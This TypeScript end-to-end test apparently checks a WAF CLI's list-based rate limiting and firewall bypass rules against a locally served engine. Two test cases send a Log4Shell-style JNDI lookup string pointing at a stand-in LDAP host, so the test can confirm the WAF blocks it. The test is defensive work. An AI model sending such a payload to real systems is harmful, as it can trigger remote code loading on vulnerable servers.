/**
 * `zonewall test --against-zone` where the zone's rules use the account's lists (`$name`), against
 * `zonewall serve` (a child process on 127.0.0.1, an ephemeral port) with and without `--strict`.
 * Without `--strict` the bursts go to the engine's burst route and the plain cases to its tracer
 * batch, which resolve `$name` on the server. Under `--strict` there is neither: each burst runs here
 * on the zone as read, and the previous WAF's verdict of a plain case is evaluated here too (the
 * service's tracer does not tell it). Those local runs read the account's lists through the
 * provider, so a rate limiting rule (and a custom skip) using a list, and a firewall rule that
 * bypasses the previous WAF for a list, act exactly as they do on the server: before, the local run
 * had no lists, so `$name` matched nothing there.
 */
import { join } from 'node:path';
import { mkdirSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { requireBuild, startServe, tempDir, withEngine, writeManifest, zonewall } from '../helpers/e2e-cli.js';

const account = `account: zonewall engine
plan: enterprise
lists:
  scrapers:
    kind: ip
    items: [203.0.113.0/28]
  partners:
    kind: ip
    items: [198.51.100.7]
  monitors:
    kind: ip
    items: [192.0.2.50]
`;

const rateLimited = `zone: rl-lists.example.com
plan: enterprise
custom_rules:
  partners-skip-rate-limits:
    action: skip
    expression: ip.src in $partners
    action_parameters:
      phases: [http_ratelimit]
rate_limiting_rules:
  scrapers:
    action: block
    expression: ip.src in $scrapers
    ratelimit: { characteristics: [ip.src], period: 60, requests_per_period: 3, mitigation_timeout: 600 }
  login:
    action: block
    expression: http.request.uri.path eq "/login"
    ratelimit: { characteristics: [ip.src], period: 60, requests_per_period: 5, mitigation_timeout: 600 }
`;

const rateLimitedCases = `cases:
  - name: a listed scraper is blocked on its fourth request
    request: { path: /, ip: 203.0.113.9 }
    burst: { count: 4, over: 60 }
    expect:
      first: { request: 4, action: block, rule: rate_limiting_rules.scrapers, until: 645 }
      acted: 1
  - name: a listed scraper among clients one value a line
    request: { path: / }
    burst:
      count: 8
      over: 60
      vary:
        ip: |
          203.0.113.1
          192.0.2.1
    expect: { first: { request: 7, rule: rate_limiting_rules.scrapers }, acted: 1 }
  - name: an address not on the list is not counted
    request: { path: /, ip: 203.0.113.200 }
    burst: { count: 4, over: 60 }
    expect: { allowed: true }
  - name: a partner skips the rate limits (a custom skip using a list)
    request: { path: /login, ip: 198.51.100.7 }
    burst: { count: 10, over: 60 }
    expect: { allowed: true }
  - name: anyone else is blocked on the sixth login
    request: { path: /login, ip: 198.51.100.8 }
    burst: { count: 6, over: 60 }
    expect: { first: { request: 6, rule: rate_limiting_rules.login } }
`;

const monitored = `zone: monitored-lists.example.com
plan: enterprise
previous_waf:
  packages:
    owasp: { sensitivity: low, action_mode: simulate }
firewall_rules:
  monitors-skip-waf:
    action: bypass
    products: [waf]
    filter:
      expression: ip.src in $monitors
`;

const monitoredCases = `cases:
  - name: a listed monitor bypasses the previous WAF
    request: { ip: 192.0.2.50, headers: { User-Agent: Mozilla/5.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
    expect: { allowed: true, matched: firewall_rules.monitors-skip-waf }
  - name: anyone else is blocked by the previous WAF
    request: { ip: 192.0.2.51, headers: { User-Agent: Mozilla/5.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
    expect: { action: block, matched: previous_waf.cloudflare.100514 }
`;

interface Report { zone: string; passed: number; failed: number; results: { name: string; pass: boolean; failures: string[] }[] }

describe('--against-zone with lists, zonewall serve with and without --strict', () => {
  let t: ReturnType<typeof tempDir>;
  let dir: string;
  beforeEach(() => {
    requireBuild();
    t = tempDir('against-lists');
    dir = join(t.dir, 'zones');
    mkdirSync(dir);
    writeManifest(dir, 'account.yaml', account);
    writeManifest(dir, 'rl-lists.example.com.yaml', rateLimited);
    writeManifest(dir, 'rl-lists.example.com.tests.yaml', rateLimitedCases);
    writeManifest(dir, 'monitored-lists.example.com.yaml', monitored);
    writeManifest(dir, 'monitored-lists.example.com.tests.yaml', monitoredCases);
  });
  afterEach(() => t.cleanup());

  it('bursts through list-using rate limiting rules, and the previous WAF bypassed for a list, answer alike offline, with the routes and under --strict', async () => {
    const offline = await zonewall(['test', dir, '--json']);
    expect(offline.code, offline.stdout + offline.stderr).toBe(0);
    for (const args of [[], ['--strict']]) {
      const state = join(t.dir, `served${args.join('')}`);
      // Remote providers never create zones: the service's owner does, before serving.
      await withEngine(state, async (engine) => {
        await engine.createZone('rl-lists.example.com', { plan: 'enterprise' });
        await engine.createZone('monitored-lists.example.com', { plan: 'enterprise', waf: 'previous' });
      });
      const served = await startServe(state, undefined, { args });
      try {
        const remote = (...a: string[]) => zonewall([...a, '--remote', served.url], { env: { ZONEWALL_API_TOKEN: served.token } });
        const applied = await remote('apply', dir, '--auto-approve', '--force');
        expect(applied.code, applied.stdout + applied.stderr).toBe(0);
        const live = await remote('test', dir, '--against-zone', '--json');
        const reports = (JSON.parse(live.stdout) as { reports: Report[] }).reports;
        const failures = reports.flatMap((r) => r.results.filter((c) => !c.pass).map((c) => [r.zone, c.name, c.failures]));
        expect(failures, `serve ${args.join(' ')}`).toEqual([]);
        expect(reports.map((r) => [r.zone, r.passed]).sort()).toEqual([['monitored-lists.example.com', 2], ['rl-lists.example.com', 5]]);
        expect(live.code).toBe(0);
      } finally {
        await served.stop();
      }
    }
  }, 300_000);
});
